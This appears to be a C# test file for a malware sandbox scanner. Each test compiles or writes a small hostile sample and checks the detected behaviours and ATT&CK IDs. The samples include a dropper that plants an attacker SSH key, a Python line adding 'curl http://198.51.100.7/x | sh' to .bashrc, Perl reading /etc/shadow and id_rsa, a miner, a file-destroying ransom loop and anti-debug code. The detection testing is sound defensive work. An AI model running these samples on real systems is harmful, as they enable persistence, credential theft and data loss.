using Crible.Model;
using static Crible.Tests.Scanners.Dynamic.DynamicSamples;

namespace Crible.Tests.Scanners.Dynamic;

/// <summary>What the behaviour timeline shows for samples built by the test, each run in the sandbox.</summary>
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class SandboxBehaviourTests
{
    [Fact]
    public async Task A_dropped_second_stage_is_a_child_node_with_its_own_findings()
    {
        var sample = CompileC("""
            #include <arpa/inet.h>
            #include <stdio.h>
            #include <sys/socket.h>
            #include <sys/stat.h>
            #include <sys/wait.h>
            #include <unistd.h>
            int main(void) {
                struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(8080); inet_pton(AF_INET, "203.0.113.20", &a.sin_addr);
                connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&a, sizeof a);
                FILE *stage = fopen("/tmp/stage2.sh", "w");
                fputs("#!/bin/sh\nmkdir -p ~/.ssh\necho 'ssh-ed25519 AAAAC3Nz attacker' >> ~/.ssh/authorized_keys\n", stage);
                fclose(stage);
                chmod("/tmp/stage2.sh", 0755);
                if (fork() == 0) { execl("/tmp/stage2.sh", "stage2.sh", (char *)0); _exit(1); }
                wait(0);
                return 0;
            }
            """);

        var report = await RunAsync(sample, "dropper");

        Assert.Equal(Severity.Malicious, Finding(report, "download-execute").Severity);
        var stage = Array.FindIndex([.. report.Nodes], n => n.Name == "tmp/stage2.sh");
        Assert.True(stage > 0, string.Join(", ", report.Nodes.Select(n => n.Name)));
        Assert.Equal((Relation.Dropped, "shell"), (report.Nodes[stage].Relation, report.Nodes[stage].Kind));
        var persistence = Finding(report, "persistence-authorized-keys", stage);
        Assert.Equal(["T1098.004"], persistence.Attack);
        Assert.Contains("/home/user/.ssh/authorized_keys", persistence.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes, n => n.Name == "home/user/.ssh/authorized_keys" && n.Relation == Relation.Dropped);
    }

    [Fact]
    public async Task A_miner_is_named_by_its_pool_url_and_its_cpu_burn()
    {
        var script = "#!/bin/bash\nexec -a xmrig /bin/sh -c 'while :; do :; done' miner --url stratum+tcp://pool.example.org:3333\n";

        var report = await RunScriptAsync(script, "miner.sh");

        Assert.Contains("stratum+tcp://pool.example.org:3333", Finding(report, "cryptominer").Evidence, StringComparison.Ordinal);
        Assert.Equal(["T1496"], Finding(report, "cpu-exhaustion").Attack);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "stratum+tcp://pool.example.org:3333");
    }

    [Fact]
    public async Task Encrypting_the_decoy_documents_is_a_mass_rewrite()
    {
        var script = "#!/bin/sh\nfor f in $(find ~ -type f); do base64 \"$f\" > \"$f.locked\"; rm \"$f\"; done\necho 'pay us' > ~/README-RANSOM.txt\n";

        var report = await RunScriptAsync(script, "locker.sh");

        var finding = Finding(report, "mass-file-rewrite");
        Assert.Equal((Severity.Malicious, "T1486"), (finding.Severity, Assert.Single(finding.Attack)));
        Assert.Contains(report.Nodes, n => n.Name == "home/user/README-RANSOM.txt");
    }

    [Fact]
    public async Task Debugger_checks_and_attempts_to_become_root_are_reported()
    {
        var sample = CompileC("""
            #include <fcntl.h>
            #include <sys/ptrace.h>
            #include <unistd.h>
            int main(void) {
                if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) { open("/proc/self/status", O_RDONLY); }
                setuid(0);
                unlink("/work/sample");
                return 0;
            }
            """);

        var report = await RunAsync(sample, "evasive");

        Assert.Equal(["T1622"], Finding(report, "anti-debug-ptrace").Attack);
        Assert.Equal(Severity.Info, Finding(report, "reads-process-status").Severity);
        Assert.Contains("setuid(0)", Finding(report, "privilege-escalation-attempt").Evidence, StringComparison.Ordinal);
        Assert.Equal(["T1070.004"], Finding(report, "self-deletion").Attack);
    }

    [Fact]
    public async Task Python_and_perl_scripts_run_under_their_interpreters()
    {
        var python = await RunScriptAsync("#!/usr/bin/env python3\nimport os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl http://198.51.100.7/x | sh\\n')\n", "rc.py");
        var perl = await RunScriptAsync("#!/usr/bin/perl\nopen(my $f, '<', '/etc/shadow');\nopen(my $k, '<', \"$ENV{HOME}/.ssh/id_rsa\");\nprint 1;\n", "creds.pl");

        Assert.Equal("python", python.Nodes[0].Kind);
        Assert.Equal(["T1546.004"], Finding(python, "persistence-shell-rc").Attack);
        Assert.Equal("perl", perl.Nodes[0].Kind);
        Assert.Equal(["T1003.008", "T1552.004"], Finding(perl, "credential-file-read").Attack);
    }
}
